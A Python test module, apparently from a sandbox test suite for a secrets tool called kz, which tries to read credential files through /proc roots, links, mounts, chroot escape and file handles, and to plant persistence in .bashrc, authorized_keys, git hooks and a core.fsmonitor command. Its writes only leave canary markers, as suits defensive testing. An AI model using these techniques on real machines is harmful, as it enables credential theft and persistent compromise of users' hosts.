# Attacks on files: reading what is hidden, by every way that leads to a file, and writing what runs later. For what is written, the world
# looks at the host's own files afterwards: what changed in memory only is no success.
import ctypes
import errno
import os
import socket
import stat
import subprocess

from attack import ANY_TIME, LATE, MEANWHILE, NEWNS, Blocked, Impossible, attack, call, canary, own_user_namespace, please, read

HIDDEN = (
    "AWS credentials", "an SSH key", "the Vault token", "kz's own folder", "kz's store", "Google's credentials", "a GnuPG key",
    "Docker's logins", "the netrc file", "npm's token", "git's logins", "PostgreSQL's passwords", "MySQL's password",
    "the shell's history", "Python's history", "Kubernetes' config", "Azure's tokens", "PyPI's token", "the keyring", "the password store", "GitHub's login",
    "1Password's folder", "age keys of sops", "the dotenv file beside the config", "another dotenv file beside the config",
    "a browser's logins", "Terraform's token", "Cargo's token", "the file that a secret is read from",
    "credentials where a variable says they are", "a file that the home folder links to",
    "a folder that the home folder links to",
)
# Masks differ for a file of its own, a file in a folder of its own, and a file in a folder that the program may write.
KINDS = {"a file": "the Vault token", "a file in a folder": "AWS credentials", "a file in the project": "the dotenv file beside the config"}

for name in HIDDEN:
    attack(f"hidden: {name}, by name")(lambda facts, n=name: canary(read(facts["hidden"][n]), n))


def each(title, when=ANY_TIME):
    """The same trick for each kind."""

    def register(function):
        for what, name in KINDS.items():
            attack(f"hidden: {what}, {title}", when)(lambda facts, n=name: function(facts, facts["hidden"][n]))
        return function

    return register


@each("through /proc/self/root")
def self_root(facts, path):
    return canary(read("/proc/self/root" + path), path)


@each("through /proc/1/root")
def first_root(facts, path):
    return canary(read("/proc/1/root" + path), path)


@each("through the root folder of the parent")
def parent_root(facts, path):
    return canary(read(f"/proc/{os.getppid()}/root{path}"), path)


@each("through the working folder of itself")
def own_cwd(facts, path):
    return canary(read("/proc/self/cwd/" + os.path.relpath(path, os.getcwd())), path)


@each("through a symbolic link")
def symlink(facts, path):
    link = os.path.join(facts["project"], f"symlink-{os.getpid()}")
    os.symlink(path, link)
    return canary(read(link), path)


@each("through a symbolic link to a folder above")
def symlink_above(facts, path):
    link = os.path.join(facts["project"], f"above-{os.getpid()}")
    os.symlink(facts["home"], link)
    return canary(read(os.path.join(link, os.path.relpath(path, facts["home"]))), path)


@each("through a hard link")
def hard_link(facts, path):
    link = os.path.join(facts["project"], f"hard-{os.getpid()}")
    os.link(path, link)
    return canary(read(link), path)


@each("through a descriptor of a folder above")
def by_descriptor(facts, path):
    folder = os.open(facts["home"], os.O_PATH | os.O_DIRECTORY)
    file = os.open(os.path.relpath(path, facts["home"]), os.O_RDONLY, dir_fd=folder)
    return canary(os.read(file, 1000), path)


@each("through a bind mount of its own")
def own_bind(facts, path):
    own_user_namespace(NEWNS)
    target = os.path.join(facts["project"], f"bind-{os.getpid()}")
    os.mkdir(target)
    call("mount", facts["home"].encode(), target.encode(), None, 4096 | 16384, None)
    return canary(read(os.path.join(target, os.path.relpath(path, facts["home"]))), path)


@each("through a bind mount without what is mounted below")
def shallow_bind(facts, path):
    own_user_namespace(NEWNS)
    target = os.path.join(facts["project"], f"shallow-{os.getpid()}")
    os.mkdir(target)
    call("mount", facts["project"].encode(), target.encode(), None, 4096, None)
    return canary(read(path), path)


@each("after unmounting what covers it")
def unmount(facts, path):
    try:
        own_user_namespace(NEWNS)
    except OSError:
        pass
    failed = None
    for covered in (path, os.path.dirname(path), facts["home"]):
        try:
            call("umount2", covered.encode(), 2)
        except OSError as error:
            failed = error
    try:
        return canary(read(path), path)
    except OSError as error:
        raise Blocked(f"{failed}; {error}") from error


@each("through a copy of the mount (open_tree)")
def open_tree(facts, path):
    own_user_namespace(NEWNS)
    tree = call("open_tree", -100, facts["home"].encode(), 1 | 0x8000)
    file = os.open(os.path.relpath(path, facts["home"]), os.O_RDONLY, dir_fd=tree)
    return canary(os.read(file, 1000), path)


@each("through another root (chroot)")
def chroot(facts, path):
    """The old way out of a chroot, which is what a sandbox without a new mount namespace would be."""
    try:
        own_user_namespace()
    except OSError:
        pass
    outside = os.open("/", os.O_RDONLY)
    inside = os.path.join(facts["project"], f"jail-{os.getpid()}")
    os.mkdir(inside)
    os.chroot(inside)
    os.fchdir(outside)
    for _ in range(20):
        os.chdir("..")
    os.chroot(".")
    return canary(read(path), path)


@each("through its number on the disk (open_by_handle_at)")
def by_handle(facts, path):
    handle = ctypes.create_string_buffer(8 + 128)
    ctypes.c_uint.from_buffer(handle).value = 128
    mount = ctypes.c_int()
    if facts["handle"].get(path) is None:
        raise Impossible("the file system has no numbers")
    ctypes.memmove(handle, bytes.fromhex(facts["handle"][path]), len(facts["handle"][path]) // 2)
    folder = os.open(facts["project"], os.O_RDONLY)
    file = call("open_by_handle_at", folder, handle, 0)
    return canary(os.read(file, 1000), f"{path} {mount.value}")


@each("after swapping it for another (RENAME_EXCHANGE)", LATE)
def exchange(facts, path):
    other = os.path.join(os.path.dirname(path), f"other-{os.getpid()}")
    open(other, "w").close()
    call("renameat2", -100, path.encode(), -100, other.encode(), 2)
    try:
        return canary(read(other), path)
    finally:
        call("renameat2", -100, path.encode(), -100, other.encode(), 2)


@each("written anew by the user meanwhile", MEANWHILE)
def written_anew(facts, path):
    please("write anew " + path)
    return canary(read(path), path)


@attack("hidden: a file that was not there when kz started", MEANWHILE)
def new_file(facts):
    please("write anew " + os.path.join(facts["home"], ".aws", "new"))
    return canary(read(os.path.join(facts["home"], ".aws", "new")), "the new file")


@each("after renaming it or its folder", LATE)
def rename_folder(facts, path):
    folder = os.path.dirname(path)
    if folder in (facts["home"], facts["project"]):
        os.rename(path, path + ".moved")
        return canary(read(path + ".moved"), path)
    moved = folder + ".moved"
    os.rename(folder, moved)
    return canary(read(os.path.join(moved, os.path.basename(path))), path)


@each("after renaming the home folder", LATE)
def rename_home(facts, path):
    moved = facts["home"] + ".moved"
    os.rename(facts["home"], moved)
    inside = os.path.join(moved, os.path.relpath(path, facts["home"]))
    try:
        # What an earlier attack has renamed.
        places = (inside, inside + ".moved", os.path.join(os.path.dirname(inside) + ".moved", os.path.basename(inside)))
        return canary(read(next(place for place in places if os.path.exists(place))), path)
    finally:
        os.rename(moved, facts["home"])


WRITTEN = {
    "the shell's start file": ".bashrc",
    "the login shell's start file": ".profile",
    "a program that starts with the desktop": ".config/autostart/kz-attack.desktop",
    "a service of the user": ".config/systemd/user/kz-attack.service",
    "a program in the home folder's path": ".local/bin/ls",
    "the keys that may log in": ".ssh/authorized_keys",
    "git's own config": ".gitconfig",
    "npm's own config": ".npmrc",
    "kz's config for every project": ".config/keyzero/config.toml",
    "a new file in the home folder": "kz-attack",
}
WRITTEN_IN_PROJECT = {
    "kz's config": ".keyzero.toml",
    "a config of kz that was not there": ".keyzero.local.toml",
    "a hook of git": ".git/hooks/pre-commit",
    "the config of git": ".git/config",
    "kz itself, where it is installed in the project": "node_modules/keyzero/dist/kz.cjs",
    "kz's first file, where it is installed in the project": "node_modules/keyzero/bin/kz.cjs",
}


def append(path, facts, what):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "a") as file:
        file.write(f"# {facts['mark']}|{what}\n")
    raise Blocked("written: the world looks at the host's file")


for base, places in (("home", WRITTEN), ("project", WRITTEN_IN_PROJECT)):
    for what, where in places.items():
        name = f"written: {what}"
        attack(name, LATE)(lambda facts, w=what, p=where, b=base: append(os.path.join(facts[b], p), facts, w))


@attack("written: git's folder, replaced by another", LATE)
def replace_git(facts):
    git = os.path.join(facts["project"], ".git")
    os.rename(git, git + ".moved")
    os.makedirs(os.path.join(git, "hooks"))
    append(os.path.join(git, "hooks", "post-checkout"), facts, "git's folder, replaced by another")


@attack("written: kz's config, replaced by a renamed file", LATE)
def replace_config(facts):
    fresh = os.path.join(facts["project"], "fresh.toml")
    with open(fresh, "w") as file:
        file.write(read(os.path.join(facts["project"], ".keyzero.toml")).decode() + f"# {facts['mark']}|kz's config, replaced by a renamed file\n")
    os.rename(fresh, os.path.join(facts["project"], ".keyzero.toml"))


@attack("written: kz's config, by renaming the project's folder", LATE)
def replace_project(facts):
    project, moved = facts["project"], facts["project"] + ".moved"
    os.rename(project, moved)
    os.mkdir(project)
    os.rename(os.path.join(moved, ".git"), os.path.join(project, ".git"))
    append(os.path.join(project, ".keyzero.toml"), facts, "kz's config, by renaming the project's folder")


def repository(folder, facts, what):
    """A repository whose settings name a program that git runs by itself, in whatever folder the user asks for the status of."""
    for path in ("objects", "refs/heads", "hooks"):
        os.makedirs(os.path.join(folder, path), exist_ok=True)
    with open(os.path.join(folder, "config"), "w") as file:
        command = f"echo '{facts['mark']}|{what}' >> {facts['home']}/ran-by-git; false"
        file.write(f'[core]\n\trepositoryformatversion = 0\n\tfsmonitor = "{command} #"\n')


@attack("run by the user's git: settings of another folder (commondir)", MEANWHILE)
def common_folder(facts):
    repository(os.path.join(facts["project"], "common"), facts, "settings of another folder (commondir)")
    with open(os.path.join(facts["project"], ".git", "commondir"), "w") as file:
        file.write("../common\n")
    please("git status " + facts["project"])
    os.unlink(os.path.join(facts["project"], ".git", "commondir"))
    raise Blocked("the world looks whether git ran it")


@attack("run by the user's git: settings of a repository in the project", MEANWHILE)
def inner_repository(facts):
    """A submodule that no .gitmodules names: an entry of the index, and a folder with a repository."""
    inner = os.path.join(facts["project"], "vendor", "inner")
    what = "settings of a repository in the project"
    environment = {"PATH": facts["path"], "HOME": facts["home"]}
    for command in (
        ["git", "init", "-q", inner],
        ["git", "-C", inner, "-c", "user.name=a", "-c", "user.email=a@example.com", "commit", "-q", "--allow-empty", "-m", "a"],
        ["git", "-C", facts["project"], "add", "vendor/inner"],
        ["git", "-C", inner, "config", "core.fsmonitor", f"echo '{facts['mark']}|{what}' >> {facts['home']}/ran-by-git; false #"],
    ):
        done = subprocess.run(command, env=environment, capture_output=True, text=True)
        if done.returncode != 0:
            raise Blocked(f"{' '.join(command[:5])}: {done.stderr.strip()}")
    please("git status " + facts["project"])
    raise Blocked("the world looks whether git ran it")


@attack("written: kz's config, after the user has saved it", MEANWHILE)
def config_saved(facts):
    please("save " + os.path.join(facts["project"], ".keyzero.toml"))
    append(os.path.join(facts["project"], ".keyzero.toml"), facts, "kz's config, after the user has saved it")


@attack("written: the config of git, after the user's git has changed it", MEANWHILE)
def git_config_saved(facts):
    please("save " + os.path.join(facts["project"], ".git", "config"))
    append(os.path.join(facts["project"], ".git", "config"), facts, "the config of git, after the user's git has changed it")


@attack("the host's temp folder, filled")
def fill(facts):
    """Asks for more than the folder holds: no memory is used. Then one file that the world looks for."""
    with open(facts["filled"], "wb") as file:
        file.write(b"x" * (1 << 20))
    size = os.statvfs(os.path.dirname(facts["filled"]))
    with open(facts["filled"] + ".all", "wb") as file:
        try:
            os.posix_fallocate(file.fileno(), 0, size.f_blocks * size.f_frsize + (1 << 30))
            raise Blocked(f"NO LIMIT: more than {size.f_blocks * size.f_frsize} bytes")
        except OSError as error:
            raise Blocked(f"limit {size.f_blocks * size.f_frsize}, {error.strerror}: the world looks for the file") from error


@attack("the host's shared memory, filled")
def fill_shared(facts):
    with open("/dev/shm/" + os.path.basename(facts["filled"]), "wb") as file:
        file.write(b"x" * (1 << 20))
    raise Blocked("written: the world looks for the file")


def openable(path):
    """Opened for writing, and nothing is written: the kernel is the machine's own."""
    try:
        os.close(os.open(path, os.O_WRONLY))
    except FileNotFoundError as error:
        raise Impossible(f"this machine has no {path}") from error
    except OSError as error:
        # Asked before the mount is: nobody can tell what would have come after it.
        if error.errno == errno.ETXTBSY:
            raise Impossible(f"{path} runs at this moment") from error
        raise
    return f"{path} can be written"


for title, path in {
    "the kernel's settings (/proc/sys)": "/proc/sys/net/ipv4/ip_forward",
    "the program for core dumps (core_pattern)": "/proc/sys/kernel/core_pattern",
    "the kernel's helper for modules": "/proc/sys/kernel/modprobe",
    "the system's magic key (/proc/sysrq-trigger)": "/proc/sysrq-trigger",
    "devices and drivers (/sys)": "/sys/kernel/mm/transparent_hugepage/enabled",
    # One that nobody runs meanwhile.
    "the system's own programs": "/usr/bin/tsort",
    "the system's accounts": "/etc/passwd",
}.items():
    attack(f"written: {title}")(lambda facts, p=path: openable(p))


@attack("written: a folder of the system")
def system_folder(facts):
    path = "/etc/kz-attack"
    os.close(os.open(path, os.O_WRONLY | os.O_CREAT))
    os.unlink(path)
    return f"{path} was made"


@attack("a device made by hand (mknod)")
def mknod(facts):
    path = os.path.join(facts["project"], "kmsg")
    os.mknod(path, 0o600 | stat.S_IFCHR, os.makedev(1, 11))
    return "made"


@attack("the machine's disk")
def disk(facts):
    names = [name for name in os.listdir("/sys/class/block") if os.path.exists("/dev/" + name)] if os.path.isdir("/sys/class/block") else []
    if not names:
        raise Blocked("no disk has a name here")
    os.close(os.open("/dev/" + names[0], os.O_RDONLY))
    return f"/dev/{names[0]} can be read"


@attack("another terminal of the user")
def other_terminal(facts):
    with open(facts["terminal"], "w") as terminal:
        if not os.isatty(terminal.fileno()):
            raise Blocked("no terminal")
        terminal.write(f"{facts['mark']}|another terminal of the user\n")
    raise Blocked("written: the world looks at the terminal")


@attack("a descriptor passed out by a Unix socket")
def passed_out(facts):
    """A sandboxed program hands its root folder to one outside, which reads a replaced file or plants one."""
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as client:
        client.settimeout(1)
        client.connect(facts["sockets"]["the project folder"])
        socket.send_fds(client, [b"hello"], [os.open("/", os.O_RDONLY)])
        if b"WORLD-REACHED" not in client.recv(100):
            raise Blocked("another answer")
        return "passed"
